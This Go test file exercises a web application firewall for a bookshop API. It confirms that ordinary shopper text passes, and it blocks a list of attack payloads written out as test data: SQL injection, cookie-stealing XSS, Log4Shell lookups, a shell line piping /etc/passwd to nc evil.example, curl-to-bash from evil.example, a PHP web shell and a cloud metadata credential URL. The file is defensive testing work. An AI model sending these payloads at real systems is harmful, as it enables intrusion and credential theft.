package waf_test

import (
	"bytes"
	"compress/gzip"
	"context"
	"encoding/base64"
	"encoding/binary"
	"encoding/json"
	"fmt"
	"io"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"strings"
	"syscall"
	"testing"
	"testing/iotest"
	"time"

	"go.opentelemetry.io/otel/metric/noop"

	"bookworm/internal/waf"
)

const limit = 1 << 20

// door is a firewall before a handler that reads the whole body.
type door struct {
	http.Handler

	log *bytes.Buffer
	got []byte // what came through
}

func open(t testing.TB, mode waf.Mode) *door {
	t.Helper()
	d := &door{log: &bytes.Buffer{}}
	f, err := waf.New(mode, slog.New(slog.NewJSONHandler(d.log, nil)), noop.NewMeterProvider().Meter("test"))
	if err != nil {
		t.Fatal(err)
	}
	d.Handler = f.Guard(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		body, err := io.ReadAll(r.Body)
		if err != nil {
			w.WriteHeader(http.StatusBadRequest)
			return
		}
		d.got = body
	}), func(w http.ResponseWriter, _ *http.Request) { w.WriteHeader(http.StatusForbidden) }, limit, time.Second)
	return d
}

// status sends a request as a browser would.
func (d *door) status(t testing.TB, r *http.Request) int {
	t.Helper()
	for name, value := range map[string]string{
		"Accept": "application/json", "User-Agent": "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0",
		"Accept-Language": "de-DE,de;q=0.8,en-US;q=0.5,en;q=0.3", "Accept-Encoding": "gzip, deflate, br", "Origin": "https://shop.bookworm.example",
		"Referer": "https://shop.bookworm.example/books?q=the+hobbit", "Idempotency-Key": `"3c1f0b1e-8a53-4c2e-9d3e-0a1b2c3d4e5f"`,
		"Authorization": "Bearer eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiJhbGljZSIsInJvbGVzIjpbImN1c3RvbWVyIl19.c2lnbmF0dXJl-_x9",
		"Traceparent":   "00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01",
	} {
		if r.Header.Get(name) == "" {
			r.Header.Set(name, value)
		}
	}
	answer := httptest.NewRecorder()
	d.ServeHTTP(answer, r)
	return answer.Code
}

func request(t testing.TB, method, target, body string, headers ...string) *http.Request {
	t.Helper()
	r := httptest.NewRequestWithContext(context.Background(), method, target, strings.NewReader(body))
	r.Host = "127.0.0.1:8080"
	if body != "" {
		r.Header.Set("Content-Type", "application/json")
	}
	for i := 0; i+1 < len(headers); i += 2 {
		r.Header.Set(headers[i], headers[i+1])
	}
	return r
}

// body returns fields and their texts as JSON.
func body(t testing.TB, fields ...any) string {
	t.Helper()
	object := make(map[string]any)
	for i := 0; i+1 < len(fields); i += 2 {
		object[fmt.Sprint(fields[i])] = fields[i+1]
	}
	encoded, err := json.Marshal(object)
	if err != nil {
		t.Fatal(err)
	}
	return string(encoded)
}

const aBook = "01890a5d-ac96-774b-bcce-b302099a8057"

// prose is what people write that looks like code to a machine, and a few things
// that look like an attack to people.
var prose = []string{
	"I'd like to order 1 copy; can you select the cheapest from the list and drop it at my door?",
	"Select * all the books where the hero dies, or else union them with the sequels.",
	"Who wrote 'Select Poems' -- the one from 1925? I can't find it.",
	"My daughter <3 this book! It's < 10 $ and > 300 pages.",
	"Is there a book on C++, C# or Node.js? Something like `console.log(\"hi\")` for beginners.",
	"The author's (and the editor's) notes & the index; that's what I missed...",
	"Don't insert spoilers into reviews! Update: I've finished it, and 1=1 star less.",
	"What about /etc? No, etc. as in et cetera. See also Unix/Linux books such as \"The Art of Unix Programming\".",
	"The script of the play: ROMEO: \"O, speak again, bright angel!\" -- and so on; 5/5.",
	"Having read it twice, I'd say: order by mood, group by author, limit yourself to 10 a year.",
	"It costs $19.99 (or 17,50 €) & ships in 3-5 days?? That's 100% too much!!!",
	"Was ist mit \"Die unendliche Geschichte\"? Ich suche's für meinen Neffen; Größe egal.",
	"¿Tenéis 'Cien años de soledad'? ¡Gracias!",
	"村上春樹の『ノルウェイの森』はありますか。", //nolint:gosmopolitan // shoppers are
	"Please exec a search for `ls` manuals, man pages or system administration; then echo the titles.",
	"My name is O'Brien, and my wife's D'Angelo. We live at 12 Rue de l'Église, Apt #4; c/o Smith & Sons.",
	"I couldn't sleep (waitfor delay...) until the end; chapter 7; then 8; then -- gulp -- 9.",
	"curl up with a good book and wget some tea; nothing else to do | nothing else to want.",
	"the cat; the hat: a review. ping me when there's a sequel; whoami to judge?",
	"How does `SELECT title FROM books` work? I need an SQL book for beginners.",
	"I'm looking for a book about hacking: SQL injection, XSS and the like, e.g. \"The Web Application Hacker's Handbook\".",
	"Can I pay with PayPal or/and credit card? (My order: 0190f5a1-0000-7000-8000-000000000001.)",
	"http://example.com/books/1 says it's out of stock; https://en.wikipedia.org/wiki/Dune_(novel) says otherwise.",
	"Line one.\nLine two; it's \"quoted\".\n\n- a list\n- of things\n\t(tabbed)",
}

// legitimate returns requests as shoppers, staff and tests send them.
func legitimate(t testing.TB) []*http.Request {
	t.Helper()
	texts := append([]string(nil), prose...)
	for _, file := range []string{"questions", "queries"} {
		for _, asked := range read(t, "../../dev/eval/"+file+".json") {
			for _, name := range []string{"question", "query"} {
				if text, ok := asked[name].(string); ok {
					texts = append(texts, text)
				}
			}
		}
	}
	var requests []*http.Request
	add := func(method, target, body string, headers ...string) {
		requests = append(requests, request(t, method, target, body, headers...))
	}
	for _, b := range read(t, "../catalog/seed/books.json") {
		texts = append(texts, fmt.Sprint(b["title"]))
		add(http.MethodPost, "/api/v1/books", body(t, "isbn13", b["isbn13"], "title", b["title"], "subtitle", b["subtitle"], "authors", b["authors"],
			"description", b["description"], "publisher", b["publisher"], "language", b["language"], "categories", b["categories"],
			"price", map[string]any{"currency_code": b["currency"], "amount_minor": fmt.Sprint(b["price_minor"])}, "opening_quantity", b["stock"]))
	}
	for i, text := range texts {
		switch i % 3 { // each text somewhere, and the prose everywhere below
		case 0:
			add(http.MethodPost, "/api/v1/chat/messages", body(t, "conversation_id", aBook, "text", text))
		case 1:
			add(http.MethodPut, "/api/v1/books/"+aBook+"/reviews/mine", body(t, "stars", 4, "title", text, "text", text+" "+text))
		case 2:
			add(http.MethodPost, "/bookworm.catalog.v1.CatalogService/SearchBooks", body(t, "query", text))
		}
		add(http.MethodGet, "/api/v1/books:search?page_size=20&query="+url.QueryEscape(text), "")
	}
	for _, text := range prose {
		add(http.MethodPost, "/api/v1/chat/messages", body(t, "text", text))
		add(http.MethodPut, "/api/v1/books/"+aBook+"/reviews/mine", body(t, "stars", 1, "title", text, "text", text))
		add(http.MethodPost, "/api/v1/moderation/reviews/"+aBook+":decide", body(t, "decision", "REJECT", "reason", text, "etag", "AAECAw"))
		add(http.MethodPost, "/bookworm.catalog.v1.CatalogService/SearchBooks", gzipped(t, body(t, "query", text)), "Content-Encoding", "gzip")
		add(http.MethodPost, "/bookworm.chat.v1.ChatService/SendMessage", framed(body(t, "text", text)), "Content-Type", "application/connect+json")
		add(http.MethodGet, "/bookworm.catalog.v1.CatalogService/SearchBooks?connect=v1&encoding=json&message="+
			url.QueryEscape(body(t, "query", text)), "")
		add(http.MethodGet, "/bookworm.catalog.v1.CatalogService/SearchBooks?connect=v1&encoding=json&base64=1&message="+
			base64.RawURLEncoding.EncodeToString([]byte(body(t, "query", text))), "")
		add(http.MethodPost, "/bookworm.chat.v1.ChatService/SendMessage", "\x01"+framed(gzipped(t, body(t, "text", text)))[1:],
			"Content-Type", "application/connect+json", "Connect-Content-Encoding", "gzip")
		add(http.MethodPost, "/mcp", body(t, "jsonrpc", "2.0", "id", 1, "method", "tools/call",
			"params", map[string]any{"name": "search_books", "arguments": map[string]any{"query": text}}),
			"Accept", "application/json, text/event-stream", "Mcp-Protocol-Version", "2025-06-18")
		add(http.MethodPost, "/a2a", body(t, "jsonrpc", "2.0", "id", "1", "method", "message/send", "params", map[string]any{
			"message": map[string]any{"role": "user", "messageId": aBook, "parts": []any{map[string]any{"kind": "text", "text": text}}},
		}))
	}
	for _, who := range []string{"Alice Appleby", "Conor O'Brien", "Zoë D'Angelo-Müller", "Ng", "Dr. A. & B. Smith, Jr."} {
		for _, where := range []string{"1 Library Way", "12 Rue de l'Église, Apt #4", "Straße des 17. Juni 135; 2. OG", "c/o O'Neill & Sons (rear), 5/7 High St."} {
			add(http.MethodPost, "/api/v1/orders", body(t, "payment_method", "pm_card_visa", "basket_version", "7",
				"expected_total", map[string]any{"currency_code": "USD", "amount_minor": "4398"},
				"shipping_address", map[string]any{"name": who, "line1": where, "city": "L'Aquila", "postal_code": "67100", "country_code": "IT"}))
		}
	}
	for _, r := range [][2]string{
		{http.MethodGet, "/"},
		{http.MethodGet, "/api/v1/books?in_stock=true&page_size=100&sort=SORT_PRICE_ASC&category=science-fiction&min_price.amount_minor=100"},
		{http.MethodGet, "/api/v1/books?page_token=eyJsIjoiZ0ZqQk9hTlciLCJrIjpbIk1vYnktRGljayIsIjAxOTBmNWExIl19"},
		{http.MethodGet, "/api/v1/books/" + aBook},
		{http.MethodHead, "/api/v1/books/" + aBook},
		{http.MethodDelete, "/api/v1/basket"},
		{http.MethodGet, "/api/v1/books:batchGet?ids=" + aBook + "&ids=" + aBook},
		{http.MethodGet, "/api/v1/orders?page_size=5"},
		{http.MethodGet, "/api/v1/books:search?query=dune&authors=Frank+Herbert&price_max=2000&sort=RELEVANCE"},
		{http.MethodGet, "/api/openapi.json"},
		{http.MethodGet, "/api/docs/"},
		{http.MethodOptions, "/api/v1/books"},
		{http.MethodGet, "/.well-known/agent-card.json"},
		{http.MethodDelete, "/api/v1/books/" + aBook + "/reviews/mine"},
		{http.MethodGet, "/api/v1/chat/turns/" + aBook + "/events?after_sequence=7"},
		{http.MethodGet, "/api/v1/audit/entries:export?after_sequence=1"},
	} {
		add(r[0], r[1], "")
	}
	for _, kind := range []string{"application/proto", "application/grpc", "application/grpc+proto", "application/grpc-web+proto", "application/connect+proto"} {
		add(http.MethodPost, "/bookworm.catalog.v1.CatalogService/GetBook", "\x00\x00\x00\x00\x02\x0a\x00", "Content-Type", kind)
	}
	return requests
}

// read returns a list of objects in a file.
func read(t testing.TB, file string) (objects []map[string]any) {
	t.Helper()
	content, err := os.ReadFile(file)
	if err != nil {
		t.Fatal(err)
	}
	if err := json.Unmarshal(content, &objects); err != nil {
		t.Fatal(err)
	}
	return objects
}

// framed puts a message into the frame of a stream.
func framed(message string) string {
	return string(binary.BigEndian.AppendUint32([]byte{0}, uint32(len(message)))) + message
}

func gzipped(t testing.TB, plain string) string {
	t.Helper()
	var out bytes.Buffer
	w := gzip.NewWriter(&out)
	if _, err := w.Write([]byte(plain)); err != nil {
		t.Fatal(err)
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return out.String()
}

func TestLegitimateRequestsPass(t *testing.T) {
	t.Parallel()
	d := open(t, waf.Block)
	requests := legitimate(t)
	for _, r := range requests {
		sent, err := io.ReadAll(r.Body)
		if err != nil {
			t.Fatal(err)
		}
		r.Body = io.NopCloser(bytes.NewReader(sent))
		d.got = nil
		if status := d.status(t, r); status != http.StatusOK {
			t.Errorf("%s %s %s: %d\n%s", r.Method, r.URL, sent, status, d.log)
		} else if !bytes.Equal(d.got, sent) {
			t.Errorf("%s %s: the body came through as %q, not %q", r.Method, r.URL, d.got, sent)
		}
		d.log.Reset()
	}
	if len(requests) < 1500 {
		t.Errorf("only %d requests", len(requests))
	}
}

// attacks are requests that a scanner or an attacker sends.
func attacks(t testing.TB) map[string]*http.Request {
	t.Helper()
	payloads := map[string]string{
		"sqli or":       "' OR '1'='1' -- ",
		"sqli union":    "1' UNION SELECT username, password FROM users--",
		"sqli sleep":    "1; SELECT pg_sleep(10)--",
		"sqli drop":     "x'; DROP TABLE book; --",
		"sqli blind":    "1 AND (SELECT 1 FROM(SELECT COUNT(*),CONCAT(version(),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)a)",
		"xss script":    `<script>alert(document.cookie)</script>`,
		"xss img":       `<img src=x onerror=alert(1)>`,
		"xss svg":       `"><svg/onload=fetch('//evil.example/'+document.cookie)>`,
		"traversal":     "../../../../etc/passwd",
		"log4shell":     "${jndi:ldap://evil.example/a}",
		"log4shell obf": "${${lower:j}ndi:${lower:l}dap://evil.example/a}",
		"rce shell":     "; cat /etc/passwd | nc evil.example 4444",
		"rce subshell":  "$(curl http://evil.example/x.sh | bash)",
		"rce python":    "__import__('os').system('id')",
		"php":           "<?php system($_GET['c']); ?>",
		"rfi":           "http://169.254.169.254/latest/meta-data/iam/security-credentials/?",
		"ssti":          "{{constructor.constructor('return process')().mainModule.require('child_process').execSync('id')}}",
		"nosql proto":   `{"__proto__": {"admin": true}}`,
	}
	requests := map[string]*http.Request{
		"scanner sqlmap":  request(t, http.MethodGet, "/api/v1/books", "", "User-Agent", "sqlmap/1.8.2#stable (https://sqlmap.org)"),
		"scanner nikto":   request(t, http.MethodGet, "/api/v1/books", "", "User-Agent", "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)"),
		"scanner nuclei":  request(t, http.MethodGet, "/api/v1/books", "", "User-Agent", "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)"),
		"header jndi":     request(t, http.MethodGet, "/api/v1/books", "", "X-Api-Version", "${jndi:ldap://evil.example/a}"),
		"agent shell":     request(t, http.MethodGet, "/api/v1/books", "", "User-Agent", "() { :; }; /bin/bash -c 'cat /etc/passwd'"),
		"path traversal":  request(t, http.MethodGet, "/api/v1/books/..%2f..%2f..%2f..%2fetc%2fpasswd", ""),
		"dotfile":         request(t, http.MethodGet, "/.git/config", ""),
		"env file":        request(t, http.MethodGet, "/.env", ""),
		"wp-config":       request(t, http.MethodGet, "/wp-config.php.bak", ""),
		"parameter array": request(t, http.MethodGet, "/api/v1/books?id[$ne]=1%27%20or%201=1--%20", ""),
	}
	for name, payload := range payloads {
		requests[name+" in the query"] = request(t, http.MethodGet, "/api/v1/books:search?query="+url.QueryEscape(payload), "")
		requests[name+" in an address"] = request(t, http.MethodPost, "/api/v1/orders", body(t, "payment_method", "pm_card_visa",
			"shipping_address", map[string]any{"name": "Alice", "line1": payload, "city": "X"}))
		requests[name+" in a call"] = request(t, http.MethodPost, "/bookworm.catalog.v1.CatalogAdminService/CreateBook", body(t, "publisher", payload))
		requests[name+" compressed"] = request(t, http.MethodPost, "/bookworm.catalog.v1.CatalogAdminService/CreateBook",
			gzipped(t, body(t, "publisher", payload)), "Content-Encoding", "gzip")
		requests[name+" in a stream"] = request(t, http.MethodPost, "/bookworm.chat.v1.ChatService/ResumeTurn", framed(body(t, "turn_id", payload)),
			"Content-Type", "application/connect+json")
		requests[name+" in a compressed stream"] = request(t, http.MethodPost, "/bookworm.chat.v1.ChatService/ResumeTurn",
			"\x01"+framed(gzipped(t, body(t, "turn_id", payload)))[1:], "Content-Type", "application/connect+json", "Connect-Content-Encoding", "gzip")
		requests[name+" in gRPC-Web"] = request(t, http.MethodPost, "/bookworm.basket.v1.BasketService/SetItem", framed(body(t, "book_id", payload)),
			"Content-Type", "application/grpc-web+json")
		requests[name+" in a GET"] = request(t, http.MethodGet, "/bookworm.catalog.v1.CatalogService/GetBook?connect=v1&encoding=json&base64=1&message="+
			base64.RawURLEncoding.EncodeToString([]byte(body(t, "id", payload))), "")
	}
	return requests
}

func TestAttacksAreBlocked(t *testing.T) {
	t.Parallel()
	d := open(t, waf.Block)
	for name, r := range attacks(t) {
		d.got = nil
		// Code in prose is what somebody may ask a bookseller about.
		want := http.StatusForbidden
		if name == "ssti in the query" {
			want = http.StatusOK
		}
		if status := d.status(t, r); status != want || status == http.StatusForbidden && d.got != nil {
			t.Errorf("%s: %d", name, status)
		}
	}
}

// TestMarkupInProseIsBlocked is a limit that docs/security.md states: whoever asks
// for a book about a tag of HTML by writing the tag is refused.
func TestMarkupInProseIsBlocked(t *testing.T) {
	t.Parallel()
	r := request(t, http.MethodPost, "/api/v1/chat/messages", body(t, "text", "What is <script> in HTML?"))
	if status := open(t, waf.Block).status(t, r); status != http.StatusForbidden {
		t.Errorf("got %d", status)
	}
}

// TestA3_TheFirewallLogsRulesAndNoWords has attacks around somebody's data.
func TestA3_TheFirewallLogsRulesAndNoWords(t *testing.T) {
	t.Parallel()
	for _, mode := range []waf.Mode{waf.Detect, waf.Block} {
		d := open(t, mode)
		sent := body(t, "shipping_address", map[string]any{"name": "Alice Appleby", "line1": "' OR '1'='1' -- alice@bookworm.example"})
		status := d.status(t, request(t, http.MethodPost, "/api/v1/orders?x=%3Cscript%3Ealert(1)%3C/script%3E", sent))
		if mode == waf.Detect && (status != http.StatusOK || string(d.got) != sent) || mode == waf.Block && status != http.StatusForbidden {
			t.Errorf("%s: %d", mode, status)
		}
		var line struct {
			Rules   []int `json:"rules"`
			Blocked bool  `json:"blocked"`
		}
		if err := json.Unmarshal(d.log.Bytes(), &line); err != nil || len(line.Rules) == 0 || line.Blocked != (mode == waf.Block) {
			t.Errorf("%s: logged %s", mode, d.log)
		}
		for _, word := range []string{"lice", "script", "OR", "1'"} {
			if strings.Contains(d.log.String(), word) {
				t.Errorf("%s: %q is in the log: %s", mode, word, d.log)
			}
		}
	}
}

// TestBodiesGoThroughWhole has bodies that are not looked at, or not to their end.
func TestBodiesGoThroughWhole(t *testing.T) {
	t.Parallel()
	d := open(t, waf.Block)
	long := body(t, "text", strings.Repeat("long ", limit/4))
	for name, r := range map[string]*http.Request{
		"longer than the limit": request(t, http.MethodPost, "/api/v1/chat/messages", long),
		"no JSON":               request(t, http.MethodPost, "/api/v1/chat/messages", "{"),
		"no frame":              request(t, http.MethodPost, "/bookworm.chat.v1.ChatService/SendMessage", "{}", "Content-Type", "application/connect+json"),
		"a frame that lies":     request(t, http.MethodPost, "/bookworm.chat.v1.ChatService/SendMessage", "\x00\xff\xff\xff\xff{}", "Content-Type", "application/connect+json"),
		"no gzip":               request(t, http.MethodPost, "/bookworm.chat.v1.ChatService/GetX", "{}", "Content-Encoding", "gzip"),
		"another coding":        request(t, http.MethodPost, "/bookworm.chat.v1.ChatService/GetX", "{}", "Content-Encoding", "br"),
		"a bomb":                request(t, http.MethodPost, "/bookworm.chat.v1.ChatService/GetX", gzipped(t, strings.Repeat(" ", 64<<20)), "Content-Encoding", "gzip"),
	} {
		sent, err := io.ReadAll(r.Body)
		if err != nil {
			t.Fatal(err)
		}
		r.Body = io.NopCloser(bytes.NewReader(sent))
		if status := d.status(t, r); status != http.StatusOK || !bytes.Equal(d.got, sent) {
			t.Errorf("%s: %d with %d of %d bytes\n%s", name, status, len(d.got), len(sent), d.log)
		}
	}
}

type failingBody struct{ io.Reader }

func (failingBody) Close() error { return nil }

func TestABodyThatEndsEarlyEndsEarlyForTheNext(t *testing.T) {
	t.Parallel()
	r := request(t, http.MethodPost, "/api/v1/chat/messages", "{}")
	r.Body = failingBody{io.MultiReader(strings.NewReader(`{"text":`), iotest.ErrReader(io.ErrUnexpectedEOF))}
	if status := open(t, waf.Block).status(t, r); status != http.StatusBadRequest {
		t.Errorf("got %d", status)
	}
}

func TestModes(t *testing.T) {
	t.Parallel()
	meter := noop.NewMeterProvider().Meter("test")
	if f, err := waf.New(waf.Off, slog.Default(), meter); f != nil || err != nil {
		t.Errorf("off is %v, %v", f, err)
	}
	if _, err := waf.New("on", slog.Default(), meter); err == nil {
		t.Error("a mode that is none was taken")
	}
}

// BenchmarkInspect is what looking at a request costs.
func BenchmarkInspect(b *testing.B) {
	paragraph := strings.Repeat("A whale of a book, and I couldn't put it down. ", 20)
	for name, ask := range map[string]func() *http.Request{
		"no body": func() *http.Request { return request(b, http.MethodGet, "/api/v1/books?page_size=20", "") },
		"search": func() *http.Request {
			return request(b, http.MethodGet, "/api/v1/books:search?query=a+whale+of+a+book", "")
		},
		"chat": func() *http.Request {
			return request(b, http.MethodPost, "/api/v1/chat/messages", body(b, "text", "Do you have a book about whales?"))
		},
		"review of 1 kB": func() *http.Request {
			return request(b, http.MethodPut, "/api/v1/books/"+aBook+"/reviews/mine", body(b, "stars", 5, "title", "Whales", "text", paragraph))
		},
		"proto": func() *http.Request {
			return request(b, http.MethodPost, "/bookworm.catalog.v1.CatalogService/GetBook", "\x0a\x00", "Content-Type", "application/proto")
		},
	} {
		b.Run(name, func(b *testing.B) {
			d := open(b, waf.Block)
			b.ReportAllocs()
			began := processorTime(b)
			for b.Loop() {
				if status := d.status(b, ask()); status != http.StatusOK {
					b.Fatal(status)
				}
			}
			b.ReportMetric(float64((processorTime(b)-began).Microseconds())/float64(b.N), "cpu-µs/op")
		})
	}
}

// processorTime is what the process has used so far. Unlike the clock it does not
// count what the machine does beside it.
func processorTime(tb testing.TB) time.Duration {
	tb.Helper()
	var used syscall.Rusage
	if err := syscall.Getrusage(syscall.RUSAGE_SELF, &used); err != nil {
		tb.Fatal(err)
	}
	return time.Duration(used.Utime.Nano() + used.Stime.Nano())
}
